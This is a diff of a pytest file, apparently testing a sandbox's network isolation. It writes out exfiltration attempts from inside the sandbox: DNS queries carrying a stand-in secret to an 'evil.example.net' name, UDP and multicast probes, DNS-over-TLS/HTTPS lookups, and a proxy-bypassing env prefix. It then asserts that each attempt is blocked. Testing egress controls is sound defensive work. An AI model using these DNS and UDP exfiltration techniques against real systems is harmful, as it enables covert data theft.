@@ -2,9 +2,8 @@
 
 import pytest
 
-from attack_tools import CLIENT, inside, outside, recorder
+from attack_tools import DIRECT, inside, outside, python, recorder
 
-DIRECT = ["env", *(word for name in ("http", "https", "all") for word in ("-u", f"{name}_proxy", "-u", f"{name.upper()}_PROXY"))]
 SECRET = "s3cr3t.evil.example.net"
 
 
@@ -98,7 +97,7 @@ shown({{kind: [rcode(dns(question(b'{SECRET}'), {server!r}, kind == 'tcp')), len
 
 
 def test_name_server_answers_outside(evil):
-    r = outside(evil, CLIENT + f"shown({{t: rcode(dns(question(b'{SECRET}'), '11.0.0.53', t == 'tcp')) for t in ('udp', 'tcp')}})")
+    r = outside(evil, f"shown({{t: rcode(dns(question(b'{SECRET}'), '11.0.0.53', t == 'tcp')) for t in ('udp', 'tcp')}})")
     assert r.json() == {"udp": 0, "tcp": 0} and evil.queries() == [f"A {SECRET}"] * 2
 
 
@@ -183,7 +182,7 @@ def test_no_udp_leaves(evil):
     """Claim: UDP reaches nobody, on any port: no QUIC, no DNS over QUIC, no multicast names; port 53 is our own name server (45, 53)."""
     addresses = ["11.0.0.10", "2a00:11::10"]
     seen = recorder(evil, *(f"udp:[{a}]:{p}" for a in addresses for p in UDP.values()), "multicast:224.0.0.251:5353", "multicast:224.0.0.252:5355")
-    script = CLIENT + f"""
+    script = f"""
 for a in {addresses!r} + ["224.0.0.251", "224.0.0.252", "255.255.255.255"]:
     for p in {list(UDP.values())!r}:
         try:
@@ -211,7 +210,7 @@ except OSError as e:
     assert places >= {(a, p) for a in addresses for p in UDP.values()} | {("224.0.0.251", 5353), ("224.0.0.252", 5355)}
     before = len(seen())
     for rules in ({"allow": ["ok.example.com"]}, {"options": ["--network", "full"]}):
-        r = evil.python(script, **rules)
+        r = evil.sandbox(*python(evil, script), **rules)
         assert r.out == b"ConnectionRefusedError\n", r
     assert len(seen()) == before and evil.queries() == []
 
@@ -222,7 +221,7 @@ def test_names_over_tls(evil, word):
     seen = recorder(evil, "tcp:11.0.0.28:853", "tcp:11.0.0.28:443")
     evil.names["doh.example.net"] = ["11.0.0.28"]
     evil.save_names()
-    script = CLIENT + f"""
+    script = f"""
 found = {{}}
 for host in ("doh.example.net", "11.0.0.28"):
     for port in {(443, 853) if word is None else (853,)!r}:
@@ -236,6 +235,6 @@ shown(found)
     assert len([h for h in seen() if "data" in h]) >= 2
     evil.forget()
     before = len(seen())
-    r = evil.python(script, **({"options": ["--network", word]} if word else {"allow": ["ok.example.com"]}))
+    r = evil.sandbox(*python(evil, script), **({"options": ["--network", word]} if word else {"allow": ["ok.example.com"]}))
     assert r.rc == 0 and all(answer.startswith("refused") for answer in r.json().values()), r
     assert len(seen()) == before and evil.queries() == []
